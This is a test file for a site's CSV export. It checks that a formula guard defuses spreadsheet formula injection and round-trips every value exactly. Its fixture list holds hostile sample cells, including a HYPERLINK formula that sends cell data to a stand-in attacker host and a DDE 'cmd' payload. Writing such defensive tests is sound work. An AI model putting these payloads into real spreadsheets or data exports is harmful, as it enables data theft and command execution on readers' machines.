import path from 'node:path';
import {parse} from 'csv-parse/sync';
import {loadCoalition, type LoadedOrganization} from '../../coalition';
import type {Organization} from '../../schema/organization';
import type {BuildInfo} from '../buildInfo';
import {FORMULA_GUARD_RULE, guardCell, unguardCell} from '../csvCells';
import {hsdsPackage} from '../hsds/exportPackage';
import {ORGANIZATION_CSV_COLUMNS, organizationsCsv} from '../organizationsCsv';
import {organizationRecords} from '../organizations';

const FIXTURE = path.resolve(__dirname, '../../../../tests/__fixtures__/site');
const INFO: BuildInfo = {
  schema_version: '1.0.0',
  generated_at: '2026-11-29T12:00:00.000Z',
  commit: '0123456789abcdef0123456789abcdef01234567',
};
const SITE = {siteUrl: 'https://sanctuary-commons.example.org'};

/** Cells a spreadsheet program could run as a formula (OWASP CSV Injection), in every spelling. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  "+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1',
  ' =1+1',
  '\u00a0\u3000=1+1',
  '\t',
  '-',
  '+',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(A1)',
  '-x',
  "'=1+1",
  "'already quoted",
];
/** Cells that cannot start a formula and stay exactly as they are. */
const PLAIN = [
  'Northside Rapid Response',
  '1',
  '42.5',
  '-93.265',
  '-5',
  '+16125550142',
  '+5',
  '',
  ' plain',
  '["en","es"]',
  '{"en":"x"}',
  'https://example.org/',
  'a=b',
  '24/7',
  'Mo-Fr 09:00-17:00',
  'émigré 移民',
];

describe('guardCell', () => {
  it.each(FORMULAS)('puts a quote before %j', (value) => {
    expect(guardCell(value)).toBe(`'${value}`);
  });

  it.each(PLAIN)('leaves %j as it is', (value) => {
    expect(guardCell(value)).toBe(value);
  });

  it('writes an E.164 number exactly (a signed number cannot run anything), but not a number followed by an operator', () => {
    expect(guardCell('+16125550142')).toBe('+16125550142');
    expect(guardCell('+16125550142+1')).toBe("'+16125550142+1");
    expect(guardCell('+1612555014 2')).toBe("'+1612555014 2");
  });

  it('is undone exactly by unguardCell, for every value', () => {
    // A fixed pseudo-random sample over an alphabet rich in the characters the rule looks at.
    const alphabet = [
      "'",
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '\u0000',
      ' ',
      '\u00a0',
      '\uFF1D',
      'a',
      '1',
      '.',
      '"',
      ',',
    ];
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648);
    for (let sample = 0; sample < 5000; sample += 1) {
      const value = Array.from({length: next() % 6}, () => alphabet[next() % alphabet.length]).join(
        '',
      );
      expect(unguardCell(guardCell(value))).toBe(value);
    }
    for (const value of [...FORMULAS, ...PLAIN]) expect(unguardCell(guardCell(value))).toBe(value);
  });

  it('is explained in words for the codebook and datapackage.json', () => {
    expect(FORMULA_GUARD_RULE).toContain(
      "remove one ' from the start of every cell that begins with '",
    );
    expect(FORMULA_GUARD_RULE).toContain(
      '+16125550142 or the longitude -93.265, are left as they are',
    );
  });
});

/** The fixture coalition with hostile text in every field a CSV cell can hold (as if the validator had let it through). */
function hostileCoalition() {
  const coalition = loadCoalition(FIXTURE);
  const hostile = (org: LoadedOrganization, index: number): LoadedOrganization => {
    const formula = FORMULAS[index % FORMULAS.length]!;
    const data: Organization = {
      ...org.data,
      name: formula,
      alt_names: ['@alias', '-alias'],
      summary: {en: '=summary', es: '+resumen', fr: '@résumé'},
      description: {en: '-description'},
      coverage: {area: {en: '=area', es: '\t=area'}, counties: ['=county', '+county']},
      channels: [
        ...org.data.channels,
        {
          kind: 'hotline',
          audience: 'need-help',
          value: '+16125550199',
          hours: 'Mo-Fr 09:00-17:00 "=HYPERLINK()"',
        },
      ],
    };
    return {...org, data};
  };
  return {
    ...coalition,
    organizations: coalition.organizations.map(hostile),
    cities: coalition.cities.map((city) => ({
      ...city,
      data: {...city.data, name: '=city', region: '@region'},
    })),
  };
}

/** True when a cell could start a formula: it starts with a formula sign (after spaces) or a control character, and is not a plain signed number. */
const startsLikeFormula = (cell: string) =>
  /^(?:[\t\r\n\u0000]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/.test(cell) &&
  !/^[+-]\d+(?:\.\d+)?$/.test(cell);

describe('the CSV exports with hostile values', () => {
  const coalition = hostileCoalition();

  it('organizations.csv: no cell starts like a formula, and every cell reads back to the exact value', () => {
    const rows: string[][] = parse(organizationsCsv(coalition, INFO, SITE), {bom: true});
    const records = organizationRecords(coalition, SITE);
    expect(rows.slice(1)).toHaveLength(records.length);
    rows.slice(1).forEach((row, index) => {
      row.forEach((cell, column) => {
        expect({column: rows[0]![column], cell, formula: startsLikeFormula(cell)}).toEqual({
          column: rows[0]![column],
          cell,
          formula: false,
        });
        expect(unguardCell(cell)).toBe(
          ORGANIZATION_CSV_COLUMNS[column]!.value(records[index]!, INFO),
        );
      });
    });
    // One E.164 number stays exactly as given; a list of them ("+1… | +1…") is not a plain number, so it is guarded.
    const hotlines = rows
      .slice(1)
      .map(
        (row) => row[ORGANIZATION_CSV_COLUMNS.findIndex((column) => column.name === 'hotline')]!,
      );
    expect(hotlines.filter((cell) => /^\+1\d{10}$/.test(cell)).length).toBeGreaterThan(0);
    expect(
      hotlines.filter((cell) => cell.includes(' | ')).every((cell) => cell.startsWith("'+")),
    ).toBe(true);
  });

  it('every HSDS table: no cell starts like a formula; coordinates stay numbers; datapackage.json states the rule', () => {
    const files = hsdsPackage(coalition, INFO);
    let cells = 0;
    for (const [name, text] of Object.entries(files)) {
      if (!name.endsWith('.csv')) continue;
      const rows: string[][] = parse(text);
      for (const cell of rows.slice(1).flat()) {
        cells += 1;
        expect({name, cell, formula: startsLikeFormula(cell)}).toEqual({
          name,
          cell,
          formula: false,
        });
      }
    }
    expect(cells).toBeGreaterThan(100);
    const cities: Record<string, string>[] = parse(files['sc_cities.csv']!, {columns: true});
    expect(cities.map((city) => Number(city.longitude))).toEqual(
      coalition.cities.map((city) => city.data.coordinates[1]),
    );
    expect(cities.every((city) => city.longitude!.startsWith('-'))).toBe(true);
    expect(JSON.parse(files['datapackage.json']!).sc_formula_guard).toEqual({
      prefix: "'",
      rule: FORMULA_GUARD_RULE,
    });
  });
});
